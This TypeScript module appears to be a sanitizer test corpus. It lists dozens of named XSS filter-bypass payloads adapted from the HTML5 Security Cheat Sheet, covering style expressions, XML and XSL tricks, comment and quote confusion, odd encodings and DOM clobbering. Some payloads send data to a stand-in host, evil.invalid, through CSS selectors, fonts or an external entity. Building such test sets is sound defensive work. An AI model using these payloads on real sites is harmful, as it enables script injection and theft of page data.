import { asReferences, type Payload } from './payload.js';

/**
 * Ways of the "HTML5 Security Cheat Sheet" (https://html5sec.org/) to have markup read otherwise than
 * a filter reads it, by styles, XML, comments, quotes and names; written anew.
 */
export const html5SecuritySyntax: readonly Payload[] = [
  // Styles.
  {
    name: 'link by a style',
    html: `<a style="-o-link:'javascript:attack()';-o-link-source:current">a</a>`,
  },
  {
    name: 'behaviour of an anchor',
    html: '<a style="behavior:url(#default#AnchorClick);" folder="javascript:attack()">a</a>',
  },
  {
    name: 'time line by a style',
    html: 'a<x style=`behavior:url(#default#time2)` onbegin=`attack()` >',
  },
  {
    name: 'time line that sets HTML',
    html: 'a<set/xmlns=`urn:schemas-microsoft-com:time` style=`beh&#x41vior:url(#default#time2)` attributename=`innerhtml` to=`&lt;img/src=&quot;x&quot;onerror=attack()&gt;`>',
  },
  {
    name: 'time line that animates HTML',
    html: 'a<animate/xmlns=urn:schemas-microsoft-com:time style=behavior:url(#default#time2) attributename=innerhtml values=&lt;img/src=&quot;.&quot;onerror=attack()&gt;>',
  },
  {
    name: 'vector markup',
    html: '<line xmlns=urn:schemas-microsoft-com:vml style=behavior:url(#default#vml);position:absolute href=javascript:attack() from=0 to=9 />',
  },
  {
    name: 'style sheet of data',
    html: '<link rel=stylesheet href=data:,*%7bx:expression(attack())%7d',
  },
  { name: 'import of data', html: '<style>@import "data:,*%7bx:expression(attack())%7D";</style>' },
  {
    name: 'expression in wide letters',
    html: '<style>*{x:ｅｘｐｒｅｓｓｉｏｎ(attack())}</style>',
  },
  { name: 'expression in an end tag', html: '<// style=x:expression\\28attack()\\29>' },
  {
    name: 'selector that never ends',
    html: `<style>p[foo=bar{}*{-o-link:'javascript:attack()'}{}*{-o-link-source:current}]{color:green};</style>`,
  },
  { name: 'image in a style', html: '<style><img src="</style><img src=x onerror=attack()//">' },
  {
    name: 'bullet that fails',
    html: '<li style=list-style:url() onerror=attack()></li><div style=content:url(data:image/svg+xml,%3Csvg/%3E) onload=attack()></div>',
  },
  {
    name: 'filter that changes',
    html: '<div style=width:1px;filter:glow onfilterchange=attack()>a</div>',
  },
  {
    name: 'style that covers the page',
    html: '<a style="position:fixed;inset:0;z-index:9" href="https://evil.invalid/">a</a><div style="pointer-events:none">b</div>',
  },
  {
    name: 'style that reads a field',
    html: '<style>input[value^=a]{background:url(https://evil.invalid/?a)}</style><input value=a>',
  },
  {
    name: 'font that reads a text',
    html: '<style>@font-face{font-family:x;src:url(https://evil.invalid/x);unicode-range:U+61}</style><font face=x>a</font>',
  },
  {
    name: 'comment within a style',
    html: '<style>/*</style><img src=x onerror=attack()>*/</style>',
  },
  // XML.
  {
    name: 'style sheet of a processing instruction',
    html: '<?xml-stylesheet href="javascript:attack()"?><root/>',
  },
  {
    name: 'transformation',
    html: `<?xml-stylesheet type="text/xsl" href="data:,%3Cxsl:transform version='1.0' xmlns:xsl='http://www.w3.org/1999/XSL/Transform'%3E%3Cxsl:template match='/'%3E%3Cscript%3Eattack()%3C/script%3E%3C/xsl:template%3E%3C/xsl:transform%3E"?><root/>`,
  },
  {
    name: 'declared attributes',
    html: '<!DOCTYPE x [<!ATTLIST img src CDATA "x" onerror CDATA "attack()">]><img />',
  },
  {
    name: 'declared entity',
    html: '<!DOCTYPE x[<!ENTITY x SYSTEM "https://evil.invalid/x">]><y>&x;</y>',
  },
  {
    name: 'XML link',
    html: '<x xmlns:xlink="http://www.w3.org/1999/xlink" xlink:actuate="onLoad" xlink:href="javascript:attack()" xlink:type="simple"/>',
  },
  {
    name: 'XML island',
    html: '<xml id="x" src="x.htc"></xml><label dataformatas="html" datasrc="#x" datafld="y">a</label>',
  },
  {
    name: 'element with the prefix of HTML',
    html: '<html:script xmlns:html="http://www.w3.org/1999/xhtml">attack()</html:script><svg:script>attack()</svg:script>',
  },
  {
    name: 'script of XHTML',
    html: '<script xmlns="http://www.w3.org/1999/xhtml">&#x61;ttack&#40;)</script>',
  },
  {
    name: 'event of XML',
    html: '<x xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load" ev:handler="javascript:attack()//#x"/>',
  },
  {
    name: 'card of a telephone',
    html: '<card xmlns="http://www.wapforum.org/2001/wml"><onevent type="ontimer"><go href="javascript:attack()"/></onevent><timer value="1"/></card>',
  },
  {
    name: 'variables of a telephone',
    html: '<x:template xmlns:x="http://www.wapforum.org/2001/wml" x:ontimer="$(x:unesc)j$(y:escape)a$(z:noecs)v$(x)a$(y)s$(z)cript$x:attack()"><x:timer value="1"/></x:template>',
  },
  {
    name: 'namespace by an import',
    html: '<xml:namespace prefix="t"><import namespace="t" implementation="#default#time2"><t:set attributeName="innerHTML" targetElement="x" to="&lt;img&#11;src=x:x&#11;onerror&#11;=attack()&gt;">',
  },
  {
    name: 'language of patterns',
    html: `<stylesheet xmlns="http://www.w3.org/TR/WD-xsl"><template match="/"><eval>attack()</eval><if expr="attack()"></if></template></stylesheet>`,
  },
  {
    name: 'CDATA in a drawing',
    html: '<svg><![CDATA[><image xlink:href="]]><img src=xx:x onerror=attack()//"></svg>',
  },
  {
    name: 'CDATA outside of a drawing',
    html: '<![CDATA[><img src="]]><img src=x onerror=attack()//">',
  },
  // Tags, comments and quotes.
  { name: 'comment with an image in it', html: '<!--<img src="--><img src=x onerror=attack()//">' },
  { name: 'comment element', html: '<comment><img src="</comment><img src=x onerror=attack()//">' },
  {
    name: 'declaration with an image in it',
    html: '<![><img src="]><img src=x onerror=attack()//">',
  },
  {
    name: 'conditional comment without an end',
    html: '<!--[if]><script>attack()</script --><!--[if<img src=x onerror=attack()//]> -->',
  },
  { name: 'grave accents in a comment', html: '<!-- `<img/src=xx:xx onerror=attack()//--!>' },
  {
    name: 'instruction in quotes',
    html: `<? foo="><script>attack()</script>"><! foo="><script>attack()</script>"></ foo="><script>attack()</script>">`,
  },
  {
    name: 'instruction in other quotes',
    html: `<? foo="><x foo='?><script>attack()</script>'>"><% foo><x foo="%><script>attack()</script>">`,
  },
  {
    name: 'end of an instruction in an attribute',
    html: `<! foo="[[[x]]"><x foo="]foo><script>attack()</script>">`,
  },
  {
    name: 'attribute of a quotation mark',
    html: `<x '="foo"><x foo='><img src=x onerror=attack()//'>`,
  },
  {
    name: 'attribute without a value before a quotation mark',
    html: `<img src onerror /" '"= alt=attack()//">`,
  },
  {
    name: 'grave accent that begins a value',
    html: '<a href=https://news.example/#x=`y></a><img alt="`><img src=xx:x onerror=attack()></a>">',
  },
  {
    name: 'grave accents in a value',
    html: '<img src="x` `<script>attack()</script>"` `><input value="``onmouseover=attack()">',
  },
  { name: 'script within a tag', html: '<b <script>attack()//</script>0</script></b>' },
  {
    name: 'script with a tag for an attribute',
    html: '<b><script<b></b><attack()</script </b></b>',
  },
  { name: 'script with a brace', html: '<script<{attack()}/></script </>' },
  {
    name: 'controls between attributes',
    html: '<img\u0009\u000bsrc=x\u000conerror\u000b=\u000c"attack()">',
  },
  { name: 'controls in a scheme', html: '<a href="\u0001java\u000bscript\u000c:attack()">a</a>' },
  {
    name: 'separators in front of a scheme',
    html: '<a href="\u2028javascript:attack()">a</a><a href="\u00a0javascript:attack()">b</a><a href="\ufeffjavascript:attack()">c</a>',
  },
  {
    name: 'references with names',
    html: '<a href="javascript&colon;attack&lpar;&rpar;">a</a><a href="java&Tab;script&NewLine;:attack()">b</a>',
  },
  {
    name: 'references of references',
    html: '<a href="javascript&amp;colon;attack()">a</a><p>&amp;lt;img src=x onerror=attack()&amp;gt;</p>',
  },
  {
    name: 'text that is markup when it is read twice',
    html: `<p>${asReferences('<img src=x onerror=attack()>', (code) => `&#${code};`)}</p>`,
  },
  {
    name: 'part of code by percent signs',
    html: '<a href="javascript:%61ttack%28%29">a</a><a href="javascript%3Aattack()">b</a>',
  },
  {
    name: 'element without a script',
    html: '<noscript><img src="</noscript><img src=x onerror=attack()>"></noscript>',
  },
  {
    name: 'text elements that are no text',
    html: `<xmp><%</xmp><img alt='%></xmp><img src=xx:x onerror=attack()//'>`,
  },
  {
    name: 'title of a page in an attribute',
    html: '<title onpropertychange=attack()></title><title title="</title><img src=x onerror=attack()>"></title>',
  },
  {
    name: 'links within each other',
    html: '<a style="position:absolute"><a onclick="attack()">a</a></a><a href="javascript:attack()">b</a>',
  },
  {
    name: 'letters of other sizes',
    html: '<İmg src=x onerror=attack()><ſcript>attack()</ſcript><img src=x ONERROR=attack()>',
  },
  {
    name: 'modified encoding',
    html: '<meta charset="x-imap4-modified-utf7">&ADz&AGn&AG0&AEf&ACA&AHM&AHI&AGO&AD0&AGn&ACA',
  },
  {
    name: 'encoding of another system',
    html: '<meta charset="x-mac-farsi">¼script ¾attack()//¼/script ¾',
  },
  {
    name: 'encoding that goes back',
    html: '<meta charset="iso-2022-jp"><a title="\u001b$B">a</a>\u001b(B<a title="><img src=x onerror=attack()>">b</a>',
  },
  {
    name: 'script for an event',
    html: '<SCRIPT FOR=document EVENT=onreadystatechange>attack()</SCRIPT>',
  },
  { name: 'script whose address is a fragment', html: '<script src="#">{attack()}</script>;a' },
  // Names.
  {
    name: 'image with the names of a document',
    html: '<img name=body><img name=documentElement><img name=implementation><img name=createTreeWalker>',
  },
  {
    name: 'form with the names of a node',
    html: '<form><input name=attributes><input name=parentNode><input name=childNodes><input name=remove></form>',
  },
  {
    name: 'form whose members are its children',
    html: '<form onmouseover=attack()><input name=nodeName><input name=firstChild id=localName>a</form>',
  },
  {
    name: 'form outside of its field',
    html: '<form id=x onclick=attack()>a</form><input form=x name=removeAttribute><input form=x name=getAttributeNames>',
  },
  {
    name: 'two links with one name',
    html: '<a id=config></a><a id=config name=url href="javascript:attack()"></a>',
  },
  {
    name: 'frame with a name',
    html: '<iframe name=attack srcdoc="<a id=x href=javascript:attack()></a>"></iframe><object id=location name=cookie></object>',
  },
  {
    name: 'ids of the page',
    html: '<p id="__proto__">a</p><p id="constructor">b</p><p id="body-x" name="body-y">c</p><a name="toString">d</a>',
  },
  {
    name: 'elements of prototypes',
    html: '<constructor onclick=attack()>a</constructor><__proto__ onclick=attack()>b</__proto__><tostring>c</tostring>',
  },
  {
    name: 'attributes of prototypes',
    html: '<p constructor=attack() __proto__=attack() hasownproperty=attack()>a</p>',
  },
];
